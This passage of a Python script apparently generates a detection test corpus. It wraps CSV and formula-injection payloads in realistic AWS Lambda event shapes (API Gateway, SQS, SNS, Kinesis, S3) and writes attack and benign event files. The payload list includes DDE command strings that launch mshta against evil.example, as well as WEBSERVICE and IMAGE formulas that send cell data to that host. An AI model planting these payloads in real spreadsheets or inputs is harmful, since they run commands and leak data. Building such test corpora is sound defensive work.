    ("encodeurl", "=WEBSERVICE(\"http://evil.example/\"&ENCODEURL(A1))"), ("filterxml", "=FILTERXML(WEBSERVICE(\"http://evil.example\"),\"//x\")"),
    ("ms_cmd_dde", "=cmd|'/c mshta http://evil.example/x.hta'!A0"), ("excel_exec", "=EXEC(\"calc.exe\")"),
    ("sheet_ref", "=Sheet2!A1"), ("nested", "=IF(1=1,HYPERLINK(\"http://evil.example\"),0)"),
    ("crlf_prefix", "\r\n=1+1"), ("double_quote_prefix", "\" =SUM(1,1)"),
    ("pipe_dde", "@cmd|'/c calc'!A0"), ("dollar_ref", "=$A$1+1"), ("fn_space", "=SUM (1,2)"),
    ("mixed", "+HYPERLINK(\"http://evil.example\")"), ("mixed", "-HYPERLINK(\"http://evil.example\")"),
    ("gsheets_image", "=IMAGE(\"https://evil.example/track?u=\"&A2,4,1,1)"),
    ("ods", "=WEBSERVICE(\"http://evil.example\")"), ("dde_sheet", "=DDEAUTO(\"cmd\",\"/c calc\")"),
]
for t, p in csv:
    add("csv_injection", t, p)
for p in ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0"]:
    add("csv_injection", "url", url(p))
add("csv_injection", "double_url", url2("=HYPERLINK(\"http://evil.example\")"))
add("csv_injection", "json_unicode", "=cmd|' /C calc'!A0")
add("csv_injection", "json_unicode", "=1+1")

# ------------------------------------------------------------------- shapes
UA = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
      "okhttp/4.12.0", "python-requests/2.31.0", "curl/8.4.0", "Amazon CloudFront",
      "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"]
ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def base_headers(extra=None):
    h = {"Accept": ACCEPT, "Accept-Encoding": "gzip, deflate, br", "Accept-Language": "en-US,en;q=0.9,de;q=0.8",
         "Host": "api.example.com", "User-Agent": R.choice(UA),
         "X-Amzn-Trace-Id": "Root=1-65a0b1c2-%024x" % R.getrandbits(96),
         "X-Forwarded-For": "198.51.100.%d, 130.176.0.%d" % (R.randint(1, 254), R.randint(1, 254)),
         "X-Forwarded-Port": "443", "X-Forwarded-Proto": "https",
         "CloudFront-Is-Mobile-Viewer": "false", "CloudFront-Viewer-Country": "DE"}
    if extra:
        h.update(extra)
    return h


def rc_v1(method, path):
    return {"accountId": "123456789012", "apiId": "a1b2c3d4e5", "domainName": "api.example.com",
            "httpMethod": method, "path": "/prod" + path, "protocol": "HTTP/1.1", "requestId": "%032x" % R.getrandbits(128),
            "requestTime": "04/Dec/2026:14:00:00 +0000", "requestTimeEpoch": 1796392800000, "resourcePath": path,
            "stage": "prod", "identity": {"sourceIp": "198.51.100.7", "userAgent": "Mozilla/5.0", "cognitoIdentityId": None}}


def v1(method="GET", path="/items", resource="/items", qs=None, pp=None, headers=None, body=None, b64=False):
    h = base_headers(headers)
    return {"resource": resource, "path": path, "httpMethod": method, "headers": h,
            "multiValueHeaders": {k: [v] for k, v in h.items()},
            "queryStringParameters": qs, "multiValueQueryStringParameters": {k: [v] for k, v in qs.items()} if qs else None,
            "pathParameters": pp, "stageVariables": None, "requestContext": rc_v1(method, resource),
            "body": body, "isBase64Encoded": b64}


def v2(method="GET", path="/items", raw_qs="", qs=None, cookies=None, headers=None, body=None, b64=False, pp=None,
       route=None, furl=False):
    h = {k.lower(): v for k, v in base_headers(headers).items()}
    e = {"version": "2.0", "routeKey": "$default" if furl else (route or "%s %s" % (method, path)), "rawPath": path,
         "rawQueryString": raw_qs, "headers": h,
         "requestContext": {"accountId": "123456789012" if not furl else "anonymous",
                            "apiId": "x1y2z3" if not furl else "abcdefghijklmnop",
                            "domainName": "api.example.com" if not furl else "abcdefghijklmnop.lambda-url.eu-west-1.on.aws",
                            "http": {"method": method, "path": path, "protocol": "HTTP/1.1", "sourceIp": "198.51.100.9",
                                     "userAgent": h["user-agent"]},
                            "requestId": "%032x" % R.getrandbits(128), "routeKey": "$default",
                            "stage": "$default", "time": "04/Dec/2026:14:00:00 +0000", "timeEpoch": 1796392800000},
         "isBase64Encoded": b64}
    if cookies:
        e["cookies"] = cookies
    if qs:
        e["queryStringParameters"] = qs
    if pp:
        e["pathParameters"] = pp
    if body is not None:
        e["body"] = body
    return e


def uesc_dumps(o):
    """JSON with every non-alphanumeric character of every string as a \\uXXXX escape."""
    if isinstance(o, dict):
        return "{" + ",".join(uesc_dumps(str(k)) + ":" + uesc_dumps(v) for k, v in o.items()) + "}"
    if isinstance(o, list):
        return "[" + ",".join(uesc_dumps(v) for v in o) + "]"
    if isinstance(o, str):
        out = []
        for ch in o:
            if ch.isascii() and ch.isalnum():
                out.append(ch)
            elif ord(ch) > 0xFFFF:
                out.append(json.dumps(ch)[1:-1])
            else:
                out.append("\\u%04x" % ord(ch))
        return '"' + "".join(out) + '"'
    return json.dumps(o)


def as_text(kind, v):
    if kind == "s":
        return v
    if kind == "j":
        return json.dumps(v)
    return "%s=%s" % v


FIELDS = ["comment", "q", "name", "search", "note", "title", "filename", "message", "address", "cell"]


def body_obj(kind, v, field):
    """A realistic JSON document carrying the payload in `field`."""
    o = {"requestId": "%08x" % R.getrandbits(32), "locale": "en-GB", "page": 1}
    if kind == "p":
        o[v[0]] = v[1]
    else:
        o[field] = v
    return o


def shapes(kind, v, uesc):
    """Yield (shape, event-as-JSON-line) for the payload."""
    dumps = uesc_dumps if uesc else (lambda o: json.dumps(o))
    t = as_text(kind, v)
    field = R.choice(FIELDS)
    if kind == "p":
        qk, qv = v
    else:
        qk, qv = field, t
    # API Gateway v1
    yield "apigw_v1_query", dumps(v1(qs={qk: qv, "page": "2"}))
    yield "apigw_v1_path", dumps(v1(path="/items/" + quote(t, safe=""), resource="/items/{id}", pp={"id": t}))
    yield "apigw_v1_header", dumps(v1(headers={"User-Agent": t, "X-Search": t}))
    yield "apigw_v1_cookie", dumps(v1(headers={"Cookie": "session=3f9a1c77e2; theme=dark; %s=%s" % (
        quote(qk, safe="") if kind == "p" else "pref", quote(qv, safe=""))}))
    yield "apigw_v1_json_body", dumps(v1("POST", headers={"Content-Type": "application/json"},
                                         body=dumps(body_obj(kind, v, field))))
    yield "apigw_v1_form_body", dumps(v1("POST", headers={"Content-Type": "application/x-www-form-urlencoded"},
                                         body="csrf=9c1f0e&%s=%s&submit=Send" % (quote_plus(qk), quote_plus(qv))))
    yield "apigw_v1_base64_body", dumps(v1("POST", headers={"Content-Type": "application/json"},
                                           body=base64.b64encode(dumps(body_obj(kind, v, field)).encode()).decode(),
                                           b64=True))
    # API Gateway v2 (HTTP API)
    yield "apigw_v2_query", dumps(v2(raw_qs="%s=%s&page=2" % (quote(qk, safe=""), quote(qv, safe="")),
                                     qs={qk: qv, "page": "2"}))
    yield "apigw_v2_cookie", dumps(v2(cookies=["session=3f9a1c77e2", "%s=%s" % (
        quote(qk, safe="") if kind == "p" else "pref", quote(qv, safe=""))]))
    yield "apigw_v2_json_body", dumps(v2("POST", "/orders", headers={"Content-Type": "application/json"},
                                         body=dumps(body_obj(kind, v, field))))
    # ALB (query parameters arrive encoded)
    yield "alb_query", dumps({"requestContext": {"elb": {"targetGroupArn": "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/tg/abc"}},
                              "httpMethod": "GET", "path": "/search",
                              "queryStringParameters": {quote_plus(qk): quote_plus(qv)},
                              "headers": {k.lower(): v2_ for k, v2_ in base_headers().items()},
                              "body": "", "isBase64Encoded": False})
    # function URL, JSON body
    yield "function_url_body", dumps(v2("POST", "/", headers={"Content-Type": "application/json"},
                                        body=dumps(body_obj(kind, v, field)), furl=True))
    # SQS
    yield "sqs_body", dumps({"Records": [{"messageId": "%032x" % R.getrandbits(128), "receiptHandle": "AQEB" + "x" * 40,
                                          "body": dumps(body_obj(kind, v, field)),
                                          "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1796392800000"},
                                          "messageAttributes": {}, "md5OfBody": "%032x" % R.getrandbits(128),
                                          "eventSource": "aws:sqs", "eventSourceARN": "arn:aws:sqs:eu-west-1:123456789012:orders",
                                          "awsRegion": "eu-west-1"}]})
    # SNS
    yield "sns_message", dumps({"Records": [{"EventSource": "aws:sns", "EventVersion": "1.0",
                                             "EventSubscriptionArn": "arn:aws:sns:eu-west-1:123456789012:topic:abc",
                                             "Sns": {"Type": "Notification", "MessageId": "%032x" % R.getrandbits(128),
                                                     "TopicArn": "arn:aws:sns:eu-west-1:123456789012:topic",
                                                     "Subject": "update", "Message": dumps(body_obj(kind, v, field)),
                                                     "Timestamp": "2026-12-04T14:00:00.000Z", "MessageAttributes": {}}}]})
    # EventBridge
    yield "eventbridge_detail", dumps({"version": "0", "id": "%032x" % R.getrandbits(128), "detail-type": "OrderPlaced",
                                       "source": "com.example.shop", "account": "123456789012",
                                       "time": "2026-12-04T14:00:00Z", "region": "eu-west-1", "resources": [],
                                       "detail": body_obj(kind, v, field)})
    # Kinesis
    yield "kinesis_data", dumps({"Records": [{"kinesis": {"kinesisSchemaVersion": "1.0", "partitionKey": "p1",
                                                          "sequenceNumber": "4959" + "0" * 40,
                                                          "data": base64.b64encode(dumps(body_obj(kind, v, field)).encode()).decode(),
                                                          "approximateArrivalTimestamp": 1796392800.1},
                                              "eventSource": "aws:kinesis", "eventVersion": "1.0",
                                              "eventID": "shardId-000000000000:4959", "eventName": "aws:kinesis:record",
                                              "awsRegion": "eu-west-1",
                                              "eventSourceARN": "arn:aws:kinesis:eu-west-1:123456789012:stream/clicks"}]})
    # S3 object key (encoded as S3 does)
    yield "s3_key", dumps({"Records": [{"eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "eu-west-1",
                                        "eventTime": "2026-12-04T14:00:00.000Z", "eventName": "ObjectCreated:Put",
                                        "s3": {"s3SchemaVersion": "1.0", "bucket": {"name": "uploads-bucket", "arn": "arn:aws:s3:::uploads-bucket"},
                                               "object": {"key": quote_plus(t, safe="/"), "size": 1024,
                                                          "eTag": "%032x" % R.getrandbits(128)}}}]})
    # plain JSON object (direct invoke)
    yield "plain_json", dumps(body_obj(kind, v, field))


def main():
    # attacks
    seen = set()
    n_att = 0
    counts = {}
    with open("attacks.jsonl", "w") as f, open("attacks.meta.jsonl", "w") as m:
        for cls, tech, kind, v in P:
            key = (cls, kind, json.dumps(v))
            if key in seen:
                continue
            seen.add(key)
            counts[cls] = counts.get(cls, 0) + 1
            for shape, line in shapes(kind, v, tech == "json_unicode"):
                f.write(line + "\n")
                m.write(json.dumps({"class": cls, "technique": tech, "shape": shape,
                                    "payload": as_text(kind, v)}) + "\n")
                n_att += 1
    for c, k in sorted(counts.items()):
        print("%-22s %d distinct payloads" % (c, k), file=sys.stderr)
    print("attack events:", n_att, file=sys.stderr)
    import benign
    nb = benign.write(shapes_benign=shapes, R=R)
    print("benign events:", nb, file=sys.stderr)


if __name__ == "__main__":
    main()
